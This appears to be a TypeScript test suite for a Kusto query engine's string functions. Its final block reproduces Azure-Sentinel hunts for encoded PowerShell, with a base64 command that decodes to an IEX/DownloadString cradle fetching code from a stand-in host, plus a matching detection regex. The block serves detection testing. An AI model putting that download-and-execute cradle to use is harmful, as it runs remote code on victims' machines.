import { describe } from 'node:test';
import { kqlCases } from '../../../support/kqlCases.js';

describe('string functions', () => {
  kqlCases([
    { expr: 'strlen("héllo")', expect: 5, type: 'long' },
    { expr: 'toupper("abc")', expect: 'ABC' },
    { expr: 'strcat("a", 1, "b")', expect: 'a1b' },
    { expr: 'tostring(parse_url("https://x.test:8080/p?q=1").Host)', expect: 'x.test' },
    { query: 'datatable(s:string)["a", "bb"] | extend n = strlen(s)', rows: [{ s: 'a', n: 1 }, { s: 'bb', n: 2 }] },
    { query: 'print r = no_such_function(1)', error: 'no_such_function' },
  ]);
});

describe('split', () => {
  kqlCases([
    { expr: 'split("aa_bb", "_")', expect: ['aa', 'bb'], type: 'dynamic' },
    { expr: 'split("aaa_bbb_ccc", "_", 1)', expect: ['bbb'] },
    { expr: 'split("", "_")', expect: [''] },
    { expr: 'split("a__b", "_")', expect: ['a', '', 'b'] },
    { expr: 'split("aabbcc", "bb")', expect: ['aa', 'cc'] },
    { expr: 'split("a_b", "_", 5)', expect: [] },
    { expr: 'split("a_b", "_", -1)', expect: [] },
    { expr: 'split("abc", "")', expect: ['abc'] },
    { expr: 'tostring(split(@"C:\\Windows\\cmd.exe", @"\\")[-1])', expect: 'cmd.exe' },
    { expr: 'array_length(split("a,b,c", ","))', expect: 3 },
  ]);
});

describe('extract, extract_all, extractjson', () => {
  kqlCases([
    {
      query: `let _data = datatable(Text: string)["User: James, Email: James@example.com, Age: 29", "User: David, Age: 35"];
              _data | extend UserName = extract("User: ([^,]+)", 1, Text), EmailId = extract(@"Email: (\\S+),", 1, Text), Age = extract(@"\\d+", 0, Text)`,
      rows: [
        { Text: 'User: James, Email: James@example.com, Age: 29', UserName: 'James', EmailId: 'James@example.com', Age: '29' },
        { Text: 'User: David, Age: 35', UserName: 'David', EmailId: '', Age: '35' },
      ],
    },
    {
      query: 'datatable(DateString: string)["15-12-2024", "21-07-2023", "10-03-2022"] | extend Month = extract(@"-(\\d{2})-", 1, DateString, typeof(int))',
      rows: [
        { DateString: '15-12-2024', Month: 12 },
        { DateString: '21-07-2023', Month: 7 },
        { DateString: '10-03-2022', Month: 3 },
      ],
    },
    { expr: 'extract("x=([0-9.]+)", 1, "hello x=45.6|wo", typeof(real))', expect: 45.6, type: 'real' },
    { expr: 'extract("x=([a-z]+)", 1, "x=abc", typeof(long))', expect: null },
    { expr: 'extract("nomatch(\\\\d)", 1, "abc", typeof(long))', expect: null },
    { expr: 'extract("(a)|(b)", 2, "a")', expect: '' },
    { expr: 'extract("(?i)USER=(\\\\w+)", 1, "user=Bob")', expect: 'Bob' },
    { query: 'print r = extract("(a)", 2, "a")', error: 'capture group 2' },
    { expr: 'extract_all(@"(\\d+)", "a set of numbers: 123, 567 and 789")', expect: ['123', '567', '789'] },
    {
      expr: 'extract_all(@"([\\da-f]{2})", "82b8be2d-dfa7-4bd1-8f63-24ad26d31449")',
      expect: ['82', 'b8', 'be', '2d', 'df', 'a7', '4b', 'd1', '8f', '63', '24', 'ad', '26', 'd3', '14', '49'],
    },
    {
      expr: 'extract_all(@"(\\w)(\\w+)(\\w)", "82b8be2d-dfa7-4bd1-8f63-24ad26d31449")',
      expect: [['8', '2b8be2', 'd'], ['d', 'fa', '7'], ['4', 'bd', '1'], ['8', 'f6', '3'], ['2', '4ad26d3144', '9']],
    },
    {
      expr: 'extract_all(@"(\\w)(\\w+)(\\w)", dynamic([1,3]), "82b8be2d-dfa7-4bd1-8f63-24ad26d31449")',
      expect: [['8', 'd'], ['d', '7'], ['4', '1'], ['8', '3'], ['2', '9']],
    },
    {
      expr: `extract_all(@"(?P<first>\\w)(?P<middle>\\w+)(?P<last>\\w)", dynamic(['first',2,'last']), "82b8be2d-dfa7-4bd1-8f63-24ad26d31449")`,
      expect: [['8', '2b8be2', 'd'], ['d', 'fa', '7'], ['4', 'bd', '1'], ['8', 'f6', '3'], ['2', '4ad26d3144', '9']],
    },
    { expr: 'extractall(@"(\\d)", "a1b2")', expect: ['1', '2'] },
    { expr: 'extract_all(@"(\\d)", "none")', expect: null },
    { query: 'print r = extract_all(@"(\\d)", dynamic([2]), "a1")', error: 'capture group 2' },
    { expr: `extract_json("$.name", '{"name": "John", "age": 30, "city": "New York"}', typeof(string))`, expect: 'John' },
    { expr: `extractjson("$.age", '{"name": "John", "age": 30}', typeof(long))`, expect: 30, type: 'long' },
    { expr: `extractjson("$.a[1].b", '{"a":[1,{"b":[1,2]}]}')`, expect: '[1,2]', type: 'string' },
    { expr: `extractjson("$['Log Level']", '{"Log Level":"INFO"}')`, expect: 'INFO' },
    { expr: `extractjson("$.missing", '{"a":1}')`, expect: '' },
    { expr: `extractjson("$.a", 'not json')`, expect: '' },
    { expr: `extractjson("$.a", '{"a":"x"}', typeof(long))`, expect: null },
    { query: `print r = extractjson("$..a", '{"a":1}')`, error: 'extractjson' },
  ]);
});

describe('replace_regex, replace, replace_string', () => {
  kqlCases([
    {
      query: `range x from 1 to 3 step 1 | extend str = strcat('Number is ', tostring(x)) | extend replaced = replace_regex(str, @'is (\\d+)', @'was: \\1')`,
      rows: [
        { x: 1, str: 'Number is 1', replaced: 'Number was: 1' },
        { x: 2, str: 'Number is 2', replaced: 'Number was: 2' },
        { x: 3, str: 'Number is 3', replaced: 'Number was: 3' },
      ],
      ordered: true,
    },
    { expr: 'replace_regex("abcabc", "b", "[\\\\0]")', expect: 'a[b]ca[b]c' },
    { expr: 'replace_regex("a1b22", @"\\d+", "#")', expect: 'a#b#' },
    { expr: 'replace_regex("ab", "x*", "-")', expect: '-a-b-' },
    { expr: 'replace_regex("a.b", @"\\.", "$1")', expect: 'a$1b' },
    { expr: 'replace_regex("AbC", "(?i)b", "")', expect: 'AC' },
    { query: 'print r = replace_regex("a", "(a)", @"\\2")', error: 'group \\2' },
    { expr: 'replace(@"is (\\d+)", @"was: \\1", "Number is 7")', expect: 'Number was: 7' },
    { expr: 'replace_string("A magic trick can turn a cat into a dog", "cat", "hamster")', expect: 'A magic trick can turn a hamster into a dog' },
    { expr: 'replace_string("Number is 1", "is", "was")', expect: 'Number was 1' },
    { expr: 'replace_string("aaa", "aa", "b")', expect: 'ba' },
    { expr: 'replace_string("abc", "", "x")', expect: 'abc' },
    { expr: 'replace_string("a.b.c", ".", "$&")', expect: 'a$&b$&c' },
  ]);
});

describe('substring, indexof, countof', () => {
  kqlCases([
    { expr: 'substring("123456", 1)', expect: '23456' },
    { expr: 'substring("123456", 2, 2)', expect: '34' },
    { expr: 'substring("ABCD", 0, 2)', expect: 'AB' },
    { expr: 'substring("123456", -2, 2)', expect: '56' },
    { expr: 'substring("abc", 5)', expect: '' },
    { expr: 'substring("abc", 1, 100)', expect: 'bc' },
    { expr: 'substring("abc", -10, 2)', expect: 'ab' },
    { expr: 'substring("abc", int(null))', expect: '' },
    {
      query: `print idx1 = indexof("abcdefg","cde"), idx2 = indexof("abcdefg","cde",1,4), idx3 = indexof("abcdefg","cde",1,2),
                    idx4 = indexof("abcdefg","cde",3,4), idx5 = indexof("abcdefg","cde",-5), idx6 = indexof(1234567,5,1,4),
                    idx7 = indexof("abcdefg","cde",2,-1), idx8 = indexof("abcdefgabcdefg", "cde", 1, 10, 2),
                    idx9 = indexof("abcdefgabcdefg", "cde", 1, -1, 3)`,
      rows: [{ idx1: 2, idx2: 2, idx3: -1, idx4: -1, idx5: 2, idx6: 4, idx7: 2, idx8: 9, idx9: -1 }],
    },
    { expr: 'indexof("abc", "x")', expect: -1 },
    { expr: 'indexof("abc", "b", 0, -2)', expect: null },
    { expr: 'indexof("abc", "b", 0, -1, -1)', expect: null },
    { expr: 'indexof("ABC", "b")', expect: -1 },
    { expr: 'countof("aaa", "a")', expect: 3 },
    { expr: 'countof("aaaa", "aa")', expect: 3 },
    { expr: 'countof("ababa", "ab", "normal")', expect: 2 },
    { expr: 'countof("ababa", "aba")', expect: 2 },
    { expr: 'countof("ababa", "aba", "regex")', expect: 1 },
    { expr: 'countof("abcabc", "a.c", "regex")', expect: 2 },
    { expr: 'countof("The cat sat on the mat", "at")', expect: 3 },
    { expr: 'countof("abc", "")', expect: 0 },
    { query: 'print r = countof("a", "a", "fuzzy")', error: 'normal or regex' },
  ]);
});

describe('trim, trim_start, trim_end', () => {
  kqlCases([
    { expr: 'trim("--", @"--https://bing.com--")', expect: 'https://bing.com' },
    { expr: 'trim(@"[^\\w]+", "-  Te st1// $")', expect: 'Te st1' },
    { expr: 'trim(@"\\s+", "    Hello, world!    ")', expect: 'Hello, world!' },
    { expr: 'trim_start("https://", "https://bing.com")', expect: 'bing.com' },
    { expr: 'trim_start(@"[^\\w]+", "-  Te st1// $")', expect: 'Te st1// $' },
    { expr: 'trim_start(@"\\s+", "    Hello, world!    ")', expect: 'Hello, world!    ' },
    { expr: 'trim_end(@"[^\\w]+", "-  Te st1// $")', expect: '-  Te st1' },
    { expr: 'trim_end(@"\\s+", "    Hello, world!    ")', expect: '    Hello, world!' },
    { expr: 'trim("ab", "ababxab")', expect: 'x' },
    { expr: 'trim("x*", "abc")', expect: 'abc' },
    { expr: 'trim(@"\\.", "...")', expect: '' },
  ]);
});

describe('strcat_array, strcat_delim, reverse, strrep, string_size, isascii, has_any_index', () => {
  kqlCases([
    { expr: 'strcat_array(dynamic([1, 2, 3]), "->")', expect: '1->2->3' },
    { expr: `strcat_array(dynamic([1, 2, 3]), '"')`, expect: '1"2"3' },
    { expr: 'strcat_array(dynamic(["a", null, {"b":1}]), ",")', expect: 'a,,{"b":1}' },
    { expr: `strcat_array(parse_json('{"a":1}'), ",")`, expect: '' },
    { expr: `strcat_delim('-', 1, '2', 'A', 1s)`, expect: '1-2-A-00:00:01' },
    { expr: 'reverse("ABCDEFGHIJKLMNOPQRSTUVWXYZ")', expect: 'ZYXWVUTSRQPONMLKJIHGFEDCBA' },
    { expr: 'reverse(12345)', expect: '54321' },
    { expr: 'reverse(123.45)', expect: '54.321' },
    { expr: 'reverse(3h)', expect: '00:00:30' },
    { expr: 'reverse("")', expect: '' },
    { expr: `strrep('ABC', 2)`, expect: 'ABCABC' },
    { expr: `strrep(123, 3, '.')`, expect: '123.123.123' },
    { expr: `strrep(3s, 2, ' ')`, expect: '00:00:03 00:00:03' },
    { expr: `strrep('a', 0)`, expect: '' },
    { expr: 'string_size("hello")', expect: 5 },
    { expr: 'string_size("⒦⒰⒮⒯⒪")', expect: 15 },
    { expr: 'isascii("some string")', expect: true },
    { expr: 'isascii("café")', expect: false },
    { expr: `has_any_index("this is an example", dynamic(['this', 'example']))`, expect: 0 },
    { expr: `has_any_index("this is an example", dynamic(['not', 'example']))`, expect: 1 },
    { expr: `has_any_index("this is an example", dynamic(['not', 'found']))`, expect: -1 },
    { expr: `has_any_index("Example number 2", dynamic([1, 2, 3]))`, expect: 1 },
    { expr: `has_any_index("this is an example", dynamic([]))`, expect: -1 },
    { expr: `has_any_index("this is an example", dynamic(['EXAMPLE']))`, expect: 0 },
  ]);
});

describe('parse_path and parse_command_line', () => {
  const part = (
    Scheme: string,
    RootPath: string,
    DirectoryPath: string,
    DirectoryName: string,
    Filename: string,
    Extension: string,
    AlternateDataStreamName: string,
  ) => ({ Scheme, RootPath, DirectoryPath, DirectoryName, Filename, Extension, AlternateDataStreamName });
  kqlCases([
    {
      query: `datatable(p:string)[@"C:\\temp\\file.txt", @"temp\\file.txt", "file://C:/temp/file.txt:some.exe", @"\\\\shared\\users\\temp\\file.txt.gz", "/usr/lib/temp/file.txt"]
              | extend path_parts = parse_path(p)`,
      rows: [
        { p: 'C:\\temp\\file.txt', path_parts: part('', 'C:', 'C:\\temp', 'temp', 'file.txt', 'txt', '') },
        { p: 'temp\\file.txt', path_parts: part('', '', 'temp', 'temp', 'file.txt', 'txt', '') },
        { p: 'file://C:/temp/file.txt:some.exe', path_parts: part('file', 'C:', 'C:/temp', 'temp', 'file.txt', 'txt', 'some.exe') },
        { p: '\\\\shared\\users\\temp\\file.txt.gz', path_parts: part('', '', '\\\\shared\\users\\temp', 'temp', 'file.txt.gz', 'gz', '') },
        { p: '/usr/lib/temp/file.txt', path_parts: part('', '', '/usr/lib/temp', 'temp', 'file.txt', 'txt', '') },
      ],
      ordered: true,
    },
    { expr: 'parse_path(@"\\\\?\\C:\\x\\y.dll")', expect: part('', 'C:', '\\\\?\\C:\\x', 'x', 'y.dll', 'dll', '') },
    { expr: 'parse_path("file.txt")', expect: part('', '', '', '', 'file.txt', 'txt', '') },
    { expr: 'parse_path(@"C:\\file")', expect: part('', 'C:', 'C:\\', '', 'file', '', '') },
    { expr: 'tostring(parse_path(@"C:\\Windows\\System32\\cmd.exe").Filename)', expect: 'cmd.exe' },
    { expr: 'parse_command_line("echo \\"hello world!\\"", "windows")', expect: ['echo', 'hello world!'] },
    {
      expr: 'parse_command_line(@"""C:\\Program Files\\x.exe"" -a ""b c"" d\\""e f\\\\""g h""", "windows")',
      expect: ['C:\\Program Files\\x.exe', '-a', 'b c', 'd"e', 'f\\g h'],
    },
    { expr: 'parse_command_line(@"a\\\\b c\\\\\\""d", "windows")', expect: ['a\\\\b', 'c\\"d'] },
    { expr: 'parse_command_line(@"x ""a""""b""", "windows")', expect: ['x', 'a"b'] },
    { expr: 'parse_command_line("  cmd.exe   /c  dir ", "windows")', expect: ['cmd.exe', '/c', 'dir'] },
    { expr: 'parse_command_line("", "windows")', expect: [] },
    { query: 'print r = parse_command_line("a b", "unix")', error: '"windows"' },
  ]);
});

describe('translate, strcmp, indexof_regex, unicode_codepoints_*, replace_strings, parse_csv, isutf8', () => {
  kqlCases([
    { expr: 'translate("abc", "x", "abc")', expect: 'xxx' },
    { expr: 'translate("abc", "", "ab")', expect: '' },
    { expr: 'translate("krasp", "otsku", "spark")', expect: 'kusto' },
    {
      query: 'datatable(string1:string, string2:string) ["ABC","ABC", "abc","ABC", "ABC","abc", "abcde","abc"] | extend result = strcmp(string1,string2)',
      rows: [
        { string1: 'ABC', string2: 'ABC', result: 0 },
        { string1: 'abc', string2: 'ABC', result: 1 },
        { string1: 'ABC', string2: 'abc', result: -1 },
        { string1: 'abcde', string2: 'abc', result: 1 },
      ],
      ordered: true,
    },
    {
      query: `print idx1 = indexof_regex("abcabc", @"a.c"), idx2 = indexof_regex("abcabcdefg", @"a.c", 0, 9, 2),
                    idx3 = indexof_regex("abcabc", @"a.c", 1, -1, 2), idx4 = indexof_regex("ababaa", @"a.a", 0, -1, 2),
                    idx5 = indexof_regex("abcabc", @"a|ab", -1)`,
      rows: [{ idx1: 0, idx2: 3, idx3: -1, idx4: -1, idx5: null }],
    },
    { expr: 'unicode_codepoints_from_string("⒦⒰⒮⒯⒪")', expect: [9382, 9392, 9390, 9391, 9386] },
    { expr: 'unicode_codepoints_from_string("קוסטו - Kusto")', expect: [1511, 1493, 1505, 1496, 1493, 32, 45, 32, 75, 117, 115, 116, 111] },
    { expr: 'to_utf8("K😀")', expect: [75, 128512] },
    { expr: 'unicode_codepoints_to_string(unicode_codepoints_from_string("Kusto"))', expect: 'Kusto' },
    { expr: 'unicode_codepoints_to_string(75, 117, 115, 116, 111)', expect: 'Kusto' },
    { expr: 'unicode_codepoints_to_string(dynamic([75, 117, 115]), 116, 111)', expect: 'Kusto' },
    { expr: 'make_string(75, 10, 117)', expect: 'K\nu' },
    { expr: 'unicode_codepoints_to_string(75, -1)', expect: '' },
    {
      query: `print Message = "This is an example of using replace_strings()"
              | extend Outcome1 = replace_strings(Message, dynamic(['This', 'is']), dynamic(['This', 'was'])),
                       Outcome2 = replace_strings(Message, dynamic(['is', 'This']), dynamic(['was', 'This'])),
                       Outcome3 = replace_strings(Message, dynamic(['This', 'is']), dynamic([12345, 'was']))`,
      rows: [
        {
          Message: 'This is an example of using replace_strings()',
          Outcome1: 'This was an example of using replace_strings()',
          Outcome2: 'Thwas was an example of using replace_strings()',
          Outcome3: 'This was an example of using replace_strings()',
        },
      ],
    },
    { expr: `replace_strings("A magic trick can turn a cat into a dog", dynamic(['cat', 'dog']), dynamic(['dog', 'pigeon']))`, expect: 'A magic trick can turn a dog into a pigeon' },
    { expr: `replace_strings("A magic trick can turn a cat into a dog", dynamic(['turn', ' into a dog']), dynamic(['disappear', '']))`, expect: 'A magic trick can disappear a cat' },
    {
      expr: `parse_csv('aa,"b,b,b",cc,"Escaping quotes: ""Title""","line1\\nline2"')`,
      expect: ['aa', 'b,b,b', 'cc', 'Escaping quotes: "Title"', 'line1\nline2'],
    },
    { expr: `parse_csv('record1,a,b,c\\nrecord2,x,y,z')`, expect: ['record1', 'a', 'b', 'c'] },
    { expr: `parse_csv('')`, expect: [''] },
    { expr: 'isutf8("some string")', expect: true },
    { expr: 'isutf8("\\uD800x")', expect: false },
  ]);
});

describe('regex_quote, parse_urlquery', () => {
  kqlCases([
    { expr: `regex_quote('(so$me.Te^xt)')`, expect: '\\(so\\$me\\.Te\\^xt\\)' },
    { expr: `"a.b(c)" matches regex regex_quote("a.b(c)")`, expect: true },
    { expr: `"axb(c)" matches regex regex_quote("a.b(c)")`, expect: false },
    { expr: 'parse_urlquery("k1=v1&k2=v2&k3=v3")', expect: { 'Query Parameters': { k1: 'v1', k2: 'v2', k3: 'v3' } } },
    { expr: `tostring(parse_urlquery('view=vs-2019&preserve-view=true')["Query Parameters"]["preserve-view"])`, expect: 'true' },
  ]);
});

// Azure-Sentinel's "Detect Encoded Powershell" and "reverse-shell-nishang-base64" hunts, on one row.
describe('public hunts decoding PowerShell -EncodedCommand', () => {
  const command = 'powershell.exe -nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAuAHQAZQBzAHQALwBhACIAKQA=';
  kqlCases([
    {
      query: String.raw`datatable(ProcessCommandLine:string)["${command}", "cmd /c dir"]
        | where ProcessCommandLine matches regex @'(\s+-((?i)encod?e?d?c?o?m?m?a?n?d?|e|en|enc|ec)\s).*([A-Za-z0-9+/]{50,}[=]{0,2})'
        | extend DecodedCommand = replace(@'\x00','', base64_decode_tostring(extract("[A-Za-z0-9+/]{50,}[=]{0,2}",0 , ProcessCommandLine)))
        | project DecodedCommand`,
      rows: [{ DecodedCommand: 'IEX (New-Object Net.WebClient).DownloadString("http://x.test/a")' }],
    },
    {
      query: String.raw`datatable(ProcessCommandLine:string)["${command}"]
        | extend SS = split(ProcessCommandLine, " ")
        | extend DecodeString = base64_decodestring(tostring(SS[3]))
        | extend FinalString = replace("\\0", "", DecodeString)
        | project hit = FinalString has "webclient" and FinalString contains "iex", n = strlen(FinalString), before = strlen(DecodeString)`,
      rows: [{ hit: true, n: 64, before: 128 }],
    },
  ]);
});
